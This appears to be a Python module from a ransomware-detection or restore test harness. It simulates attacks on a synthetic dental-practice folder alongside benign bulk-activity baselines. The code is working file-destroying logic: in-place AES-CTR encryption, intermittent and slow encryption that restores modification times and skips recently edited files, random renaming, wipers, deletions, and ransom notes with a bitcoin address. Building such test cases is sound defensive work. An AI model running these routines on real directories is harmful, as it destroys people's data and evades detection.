"""Simulated attacks and benign bulk activity on a practice folder.

Attacks re-implement the documented behaviours (research notes, section 2) with AES-CTR from
``cryptography``; no malware code is used. Each attack returns the paths it damaged (the
original paths: what a restore must bring back).
"""

from __future__ import annotations

import base64
import os
import shutil
import string
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes

from . import formats as fm

USER_TOP = ("Practice/Database", "Practice/Imaging", "Practice/Documents", "Practice/Exports")
DOC_EXT = (".docx", ".xlsx", ".pdf", ".csv", ".txt")
NOTE = (
    "YOUR FILES ARE ENCRYPTED!\r\nAll your documents, photos and databases were encrypted with a strong key.\r\n"
    "To decrypt them you need our private key. Pay 2 BTC to bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh\r\n"
    "Contact us with Tor Browser: {onion}.onion\r\nDo not rename or modify the files.\r\n"
)


@dataclass
class Ctx:
    root: Path
    r: fm.Rand
    canaries: set[str] = field(default_factory=set)
    recent: dict[str, int] = field(default_factory=dict)  # rel path -> day last written by the practice

    def user_files(self, *, with_canaries: bool = False, exts: tuple[str, ...] | None = None) -> list[str]:
        out = []
        for top in USER_TOP:
            for p in sorted((self.root / top).rglob("*")):
                if not p.is_file():
                    continue
                rel = p.relative_to(self.root).as_posix()
                if rel in self.canaries and not with_canaries:
                    continue
                if exts and not rel.lower().endswith(exts):
                    continue
                out.append(rel)
        return out


def _cipher(r: fm.Rand) -> Cipher:
    return Cipher(algorithms.AES(r.rng.randbytes(32)), modes.CTR(r.rng.randbytes(16)))


def _xor(a: bytes, b: bytes) -> bytes:
    return (int.from_bytes(a, "little") ^ int.from_bytes(b, "little")).to_bytes(len(a), "little")


def _masked(data: bytes, r: fm.Rand, on: int, off: int, limit: int | None = None) -> bytes:
    """Encrypt ``on`` bytes, keep ``off`` bytes, repeatedly (up to ``limit``)."""
    n = len(data) if limit is None else min(len(data), limit)
    mask = ((b"\xff" * on + b"\x00" * off) * (n // (on + off) + 1))[:n]
    ks = _cipher(r).encryptor().update(bytes(n))
    ks = (int.from_bytes(ks, "little") & int.from_bytes(mask, "little")).to_bytes(n, "little")
    return _xor(data[:n], ks) + data[n:]


def _in_place(ctx: Ctx, rel: str, transform: Callable[[bytes], bytes], *, keep_mtime: bool = True) -> None:
    path = ctx.root / rel
    st = path.stat()
    data = path.read_bytes()
    with path.open("r+b") as f:
        f.write(transform(data))
    if keep_mtime:
        os.utime(path, ns=(st.st_atime_ns, st.st_mtime_ns))


def _notes(ctx: Ctx, dirs: set[str], name: str = "README_DECRYPT.txt") -> None:
    onion = "".join(ctx.r.rng.choices("abcdefghijklmnopqrstuvwxyz234567", k=56))
    for d in dirs:
        (ctx.root / d / name).write_text(NOTE.format(onion=onion))


# ------------------------------------------------------------------ attacks


def fast_full(ctx: Ctx) -> list[str]:
    """Encrypt everything to name + '.locked', delete originals, notes in every folder."""
    files = ctx.user_files(with_canaries=True)
    for rel in files:
        path = ctx.root / rel
        ct = _cipher(ctx.r).encryptor().update(path.read_bytes())
        path.with_name(path.name + ".locked").write_bytes(ctx.r.rng.randbytes(16) + ct + ctx.r.rng.randbytes(256))
        path.unlink()
    _notes(ctx, {os.path.dirname(f) for f in files})
    return files


def in_place(ctx: Ctx) -> list[str]:
    """Same name, same size, mtime restored (PSRansom / Infection Monkey AES variant)."""
    files = ctx.user_files()
    for rel in files:
        _in_place(ctx, rel, lambda d: _cipher(ctx.r).encryptor().update(d))
    return files


def _intermittent(on: int, off: int, limit: int | None = None) -> Callable[[Ctx], list[str]]:
    def attack(ctx: Ctx) -> list[str]:
        files = ctx.user_files()
        for rel in files:
            _in_place(ctx, rel, lambda d: _masked(d, ctx.r, on, off, limit))
        return files

    return attack


def intermittent_percent(ctx: Ctx, percent: float = 3.0, chunks: int = 10) -> list[str]:
    """Encrypt ``percent`` of each file in ``chunks`` evenly spaced pieces from offset 0; small files whole."""
    files = ctx.user_files()

    def transform(d: bytes) -> bytes:
        if len(d) <= 704:
            return _cipher(ctx.r).encryptor().update(d)
        out = bytearray(d)
        piece = max(16, int(len(d) * percent / 100 / chunks))
        for i in range(chunks):
            at = i * len(d) // chunks
            out[at : at + piece] = _cipher(ctx.r).encryptor().update(bytes(out[at : at + piece]))
        return bytes(out)

    for rel in files:
        _in_place(ctx, rel, transform)
    return files


def slow_step(ctx: Ctx, day: int, per_day: int = 3) -> list[str]:
    """A few files a night, in place, skipping files the practice touched in the last two days."""
    done = getattr(ctx, "_slow_done", set())
    pool = [f for f in ctx.user_files() if f not in done and ctx.recent.get(f, -99) < day - 2]
    picked = ctx.r.rng.sample(pool, min(per_day, len(pool)))
    for rel in picked:
        _in_place(ctx, rel, lambda d: _cipher(ctx.r).encryptor().update(d))
    done.update(picked)
    ctx._slow_done = done  # type: ignore[attr-defined]
    return picked


def random_renames(ctx: Ctx) -> list[str]:
    """Locky style: each file encrypted to a random 16-character name, original deleted."""
    files = ctx.user_files()
    for rel in files:
        path = ctx.root / rel
        name = "".join(ctx.r.rng.choices(string.ascii_uppercase + string.digits, k=16)) + ".x7q2"
        path.with_name(name).write_bytes(ctx.r.rng.randbytes(16) + _cipher(ctx.r).encryptor().update(path.read_bytes()))
        path.unlink()
    return files


def base64_cipher(ctx: Ctx) -> list[str]:
    """Fernet-like: base64url ciphertext in name + '.enc', original deleted, one note."""
    files = ctx.user_files()
    for rel in files:
        path = ctx.root / rel
        token = base64.urlsafe_b64encode(b"\x80" + ctx.r.rng.randbytes(24) + _cipher(ctx.r).encryptor().update(path.read_bytes()))
        path.with_name(path.name + ".enc").write_bytes(token)
        path.unlink()
    _notes(ctx, {"Practice"}, "Readme.txt")
    return files


def wiper(zeros: bool) -> Callable[[Ctx], list[str]]:
    def attack(ctx: Ctx) -> list[str]:
        files = ctx.user_files()
        for rel in files:
            _in_place(ctx, rel, lambda d: bytes(len(d)) if zeros else ctx.r.bytes(len(d)))
        return files

    return attack


def exfil_delete(ctx: Ctx) -> list[str]:
    """Copy out (not simulated), then delete 70 % of the documents."""
    docs = ctx.user_files(exts=DOC_EXT)
    gone = ctx.r.rng.sample(docs, int(len(docs) * 0.7))
    for rel in gone:
        (ctx.root / rel).unlink()
    return gone


def db_only(ctx: Ctx) -> list[str]:
    files = [f for f in ctx.user_files() if f.startswith("Practice/Database/")]
    for rel in files:
        _in_place(ctx, rel, lambda d: _cipher(ctx.r).encryptor().update(d))
    return files


def during_import(ctx: Ctx) -> list[str]:
    bulk_import(ctx)
    files = [f for f in ctx.user_files() if f.startswith("Practice/Imaging/")]
    imported = {f for f in files if "/Import/" in f}
    victims = [f for f in files if f not in imported][::2] + sorted(imported)[::3]
    for rel in victims:
        path = ctx.root / rel
        path.with_name(path.name + ".crypt").write_bytes(_cipher(ctx.r).encryptor().update(path.read_bytes()))
        path.unlink()
    _notes(ctx, {os.path.dirname(f) for f in victims[:5]}, "HOW_TO_RECOVER_FILES.txt")
    return victims


# ------------------------------------------------------------------ benign bulk activity


def bulk_import(ctx: Ctx, xrays: int = 400, photos: int = 150) -> list[str]:
    for i in range(xrays):
        data = fm.dicom(ctx.r, ctx.r.rng.randint(60_000, 250_000), compressed=i % 4 == 0)
        out = ctx.root / f"Practice/Imaging/XRays/Import/batch{i // 100:02d}/IMG{i:05d}.dcm"
        out.parent.mkdir(parents=True, exist_ok=True)
        out.write_bytes(data)
    for i in range(photos):
        out = ctx.root / f"Practice/Imaging/Photos/Import/PHOTO{i:05d}.jpg"
        out.parent.mkdir(parents=True, exist_ok=True)
        out.write_bytes(fm.jpeg(ctx.r, ctx.r.rng.randint(40_000, 200_000)))
    return []


def software_update(ctx: Ctx) -> list[str]:
    """Every binary replaced, some removed, new files with new extensions (packed data, JSON)."""
    bins = sorted((ctx.root / "Practice/Software").rglob("*"))
    for i, p in enumerate(b for b in bins if b.is_file()):
        if i % 5 == 4:
            p.unlink()
        else:
            p.write_bytes(fm.pe(ctx.r, ctx.r.rng.randint(50_000, 900_000)))
    new = ctx.root / "Practice/Software/DentalPro/v2"
    new.mkdir(parents=True, exist_ok=True)
    for i in range(40):
        (new / f"res{i:03d}.pak").write_bytes(ctx.r.bytes(ctx.r.rng.randint(20_000, 300_000)))
        (new / f"plugin{i:03d}.dll").write_bytes(fm.pe(ctx.r, 60_000))
        (new / f"conf{i:03d}.json").write_text(f'{{"version": "2.{i}", "enabled": true}}\n')
    return []


def zip_and_delete(ctx: Ctx) -> list[str]:
    folder = ctx.root / "Practice/Documents/Letters/2019"
    with zipfile.ZipFile(folder.parent / "2019.zip", "w", zipfile.ZIP_DEFLATED) as zf:
        for p in sorted(folder.rglob("*")):
            zf.write(p, p.relative_to(folder.parent).as_posix())
    shutil.rmtree(folder)
    return []


def password_protect(ctx: Ctx) -> list[str]:
    """Password PDFs and Office files replace their originals; an AES zip; a VeraCrypt container."""
    for rel in ctx.user_files(exts=(".pdf",))[:20]:
        (ctx.root / rel).write_bytes(fm.pdf(ctx.r, 2, 20_000, encrypted=True))
    for rel in ctx.user_files(exts=(".docx", ".xlsx"))[:20]:
        (ctx.root / rel).write_bytes(fm.encrypted_ooxml(ctx.r, (ctx.root / rel).stat().st_size))
    out = ctx.root / "Practice/Documents/Accounting/confidentiel.zip"
    out.write_bytes(fm.aes_zip(ctx.r, [(f"releve_{i}.pdf", 30_000) for i in range(12)]))
    (ctx.root / "Practice/Documents/Coffre.hc").write_bytes(ctx.r.bytes(8 * 1024 * 1024))
    return []


def photo_resave(ctx: Ctx) -> list[str]:
    for rel in ctx.user_files(exts=(".jpg",)):
        path = ctx.root / rel
        path.write_bytes(fm.jpeg(ctx.r, int(path.stat().st_size * ctx.r.rng.uniform(0.8, 1.1))))
    return []


def rename_move(ctx: Ctx) -> list[str]:
    src = ctx.root / "Practice/Documents/Letters"
    dst = ctx.root / "Practice/Documents/Courriers"
    for p in sorted(src.rglob("*")):
        if p.is_file():
            target = dst / p.parent.relative_to(src) / f"2025_{p.name}"
            target.parent.mkdir(parents=True, exist_ok=True)
            p.rename(target)
    shutil.rmtree(src)
    for p in sorted((ctx.root / "Practice/Exports").glob("*.csv")):
        p.rename(p.with_name(p.stem.upper() + ".CSV"))
    return []


def resync(ctx: Ctx) -> list[str]:
    """A sync tool rewrites every image with identical bytes (new inode, new times)."""
    for rel in ctx.user_files():
        if rel.startswith("Practice/Imaging/"):
            path = ctx.root / rel
            tmp = path.with_name(path.name + ".sync")
            tmp.write_bytes(path.read_bytes())
            tmp.replace(path)
    return []


ATTACKS: dict[str, Callable[[Ctx], list[str]]] = {
    "fast-full+notes": fast_full,
    "in-place-mtime-kept": in_place,
    "intermittent-16/16": _intermittent(16, 16),
    "intermittent-64/192": _intermittent(64, 192),
    "intermittent-head-4KiB": _intermittent(4096, 0, 4096),
    "intermittent-3%": intermittent_percent,
    "random-renames": random_renames,
    "base64-ciphertext": base64_cipher,
    "wiper-zeros": wiper(True),
    "wiper-random": wiper(False),
    "exfiltrate-delete": exfil_delete,
    "database-only": db_only,
    "during-xray-import": during_import,
}
BENIGN: dict[str, Callable[[Ctx], list[str]]] = {
    "daily-activity-only": lambda ctx: [],
    "bulk-image-import": bulk_import,
    "software-update": software_update,
    "zip-folder-delete": zip_and_delete,
    "password-pdf-office-zip": password_protect,
    "photo-resave": photo_resave,
    "mass-rename-move": rename_move,
    "resync-identical": resync,
}
